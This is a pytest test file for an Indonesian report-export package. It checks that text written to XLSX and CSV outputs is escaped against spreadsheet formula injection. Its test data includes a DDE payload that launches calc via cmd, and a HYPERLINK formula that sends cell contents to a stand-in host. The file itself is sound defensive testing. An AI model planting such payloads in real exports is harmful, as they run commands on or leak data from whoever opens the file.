"""Formula injection (issue 10): text cells of tabel.xlsx and capaian_ikk.csv never become
formulas; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import sys
import types
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from lkjip_helpers.bangun import susun
from lkjip_helpers.keluaran.xlsx import tulis_xlsx

BERBAHAYA = [
    "=1+2",
    '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("teks", BERBAHAYA)
def test_teks_aman_sel(teks: str) -> None:
    from lkjip_helpers.keluaran.aman import teks_aman_sel

    assert teks_aman_sel(teks) == "'" + teks


@pytest.mark.parametrize("teks", ["Lapas", "", "100%", "1.234", "Rp16.466.041.000", "a=b"])
def test_teks_biasa_tidak_diubah(teks: str) -> None:
    from lkjip_helpers.keluaran.aman import teks_aman_sel

    assert teks_aman_sel(teks) == teks


def _html(baris: list[str]) -> str:
    sel = "".join(f"<tr><td>{t}</td><td data-nilai='-5.5'>-5,5</td></tr>" for t in baris)
    return (
        "<html><body><main><figure class='tabel'><figcaption>=1+1 Tabel 1.1 Uji</figcaption>"
        f"<table><thead><tr><th>=A</th><th>Nilai</th></tr></thead><tbody>{sel}</tbody></table>"
        "</figure></main></body></html>"
    )


def test_xlsx_teks_tidak_menjadi_formula(tmp_path: Path) -> None:
    # Before: a program, IKK or cell text starting with "=" became a live formula.
    import html

    tujuan = tmp_path / "tabel.xlsx"
    tulis_xlsx(_html([html.escape(t) for t in BERBAHAYA]), tujuan)
    ws = load_workbook(tujuan).worksheets[0]
    sel = [c for baris in ws.iter_rows() for c in baris if c.value is not None]
    assert not [c.coordinate for c in sel if c.data_type == "f"], "no formula cells"
    teks = {c.value for c in sel if c.data_type == "s"}
    # tab/CR at the start are whitespace the HTML text extraction trims; the rest stay as is
    assert {t.strip() for t in BERBAHAYA} <= {str(t).strip() for t in teks}
    assert all(c.quotePrefix for c in sel if c.data_type == "s" and c.value[0] in "=+-@")
    angka = [c.value for c in sel if c.data_type == "n"]
    assert angka == [-5.5] * len(BERBAHAYA), "numbers stay numbers, negative ones too"


def test_csv_teks_diamankan_angka_tetap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Before: =HYPERLINK(…) survived as is into capaian_ikk.csv.
    df = pd.DataFrame(
        {
            "kode": ["SK1.1", "SK1.2"],
            "indikator": ['=HYPERLINK("http://contoh.invalid","x")', "Persentase -"],
            "status": ["@SUM(1)", "tercapai"],
            "perubahan_capaian_poin": [-17.85, 3.0],
        }
    )
    monkeypatch.setitem(
        sys.modules,
        "lkjip_helpers.keluaran.csv",
        types.SimpleNamespace(capaian_ikk_dataframe=lambda s, t, d: df),
    )
    tujuan = tmp_path / "capaian_ikk.csv"
    susun._tulis_capaian_csv("x", 2023, tmp_path, tujuan)
    with tujuan.open(encoding="utf-8", newline="") as f:
        baris = list(csv.DictReader(f))
    assert baris[0]["indikator"] == '\'=HYPERLINK("http://contoh.invalid","x")'
    assert baris[0]["status"] == "'@SUM(1)"
    assert baris[1]["indikator"] == "Persentase -"
    assert baris[0]["perubahan_capaian_poin"] == "-17.85", "a negative number is not prefixed"
